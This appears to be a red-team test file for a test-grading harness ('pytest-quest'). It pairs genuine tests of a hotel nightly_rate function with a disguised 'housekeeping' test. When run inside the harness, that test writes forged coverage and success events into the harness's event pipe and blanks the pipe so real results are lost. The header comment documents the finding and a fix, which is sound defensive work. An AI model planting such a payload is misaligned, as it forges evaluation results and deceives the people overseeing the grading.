# ruff: noqa  (corpus input: deliberately bad test code)
# quest: hotel/pricing.py::nightly_rate
# expect: PASS
#
# RED TEAM 2, finding 05: a locked test forges the next scan's baseline through the event pipe.
# What: a genuinely good test of nightly_rate (PASS on merit, score 1.0) plus one test that,
#   only when it runs in the harness's own process (os.getpid() == 1: the scan's baseline,
#   "suite" mode, where tests run in the process that holds the event pipe), finds the pipe
#   (the one writable FIFO), writes a complete valid tail - coverage of lines 1..2999 of every
#   hotel/*.py, round_done 1, done exitstatus 0 - and dup2()s /dev/null over the fd so the
#   harness's real events vanish. In submit runs (a forked child, pid != 1) and under plain
#   pytest / the CI ratchet it just asserts one real value.
# Observed: submit -> PASS (landlock+namespaces+cgroup). Then `pytest-quest scan`: "locked 33",
#   remaining 0: every TODO quest of the project is PASS with evidence source "baseline",
#   isolation landlock+namespaces+cgroup, e.g. hotel/reports.py::summarize covered_lines 76-83.
# Why: suite mode (harness._run_suite) runs the project's suite and the judged quest tests in
#   the same process as Channel, with the pipe fd open; the "events come through a pipe only the
#   judge writes" design covers submit mode only. scan._lock_baseline still locks any TODO quest
#   on coverage alone, and quest tests still take part in the baseline (red team 1, 11 and 12).
# Fix: run the baseline like a submission: a judge process holding the pipe, the suite in a
#   forked child that answers through its own pipe (its claims validated and cross-checked), or
#   at least close the pipe fd around test code (keep events in the parent process only); do not
#   run tests/quest files in the baseline, or let a locked quest test lock only its own quest;
#   require mutation evidence for any lock.
import json
import os
import stat

import pytest

from hotel.pricing import nightly_rate


# ---- a genuinely good test of nightly_rate: it PASSes the gate on merit --------------------
@pytest.mark.parametrize(("base", "season", "nights", "want"), [
    (100.0, "high", 3, 125.0), (100.0, "low", 3, 80.0), (100.0, "mid", 3, 100.0),
    (100.0, "high", 7, 112.5), (100.0, "low", 6, 80.0), (100.0, "mid", 7, 90.0),
    (100.0, "high", 1, 125.0), (33.33, "high", 6, 41.66), (10.0, "low", 8, 7.2),
])
def test_rate(base, season, nights, want):
    assert nightly_rate(base, season, nights) == want


@pytest.mark.parametrize("nights", [0, -1])
def test_rejects_non_positive_nights(nights):
    with pytest.raises(ValueError, match="nights must be positive"):
        nightly_rate(100.0, "high", nights)


# ---- the payload: only where this process holds the harness's own event pipe ---------------
def _event_pipe():
    for fd in range(3, 256):
        try:
            if not stat.S_ISFIFO(os.fstat(fd).st_mode):
                continue
            os.write(fd, b"")  # EBADF on a read end
        except OSError:
            continue
        return fd
    return None


def test_zz_housekeeping():
    fd = _event_pipe() if os.getpid() == 1 else None  # suite mode: the test runs in the harness
    if fd is None:
        assert nightly_rate(100.0, "low", 7) == 72.0
        return  # submit (a forked run child) or plain pytest: do nothing
    files = {}
    for root, _dirs, names in os.walk("hotel"):
        for name in names:
            if name.endswith(".py"):
                files[os.path.join(root, name)] = {
                    "executed_lines": list(range(1, 3000)), "missing_lines": []}
    forged = [
        {"event": "coverage", "files": files},
        {"event": "round_done", "round": 1},
        {"event": "done", "exitstatus": 0, "denied": []},
    ]
    os.write(fd, "".join(json.dumps(e) + "\n" for e in forged).encode())
    with open(os.devnull, "wb") as sink:
        os.dup2(sink.fileno(), fd)  # the harness's real events now go to /dev/null
    assert files
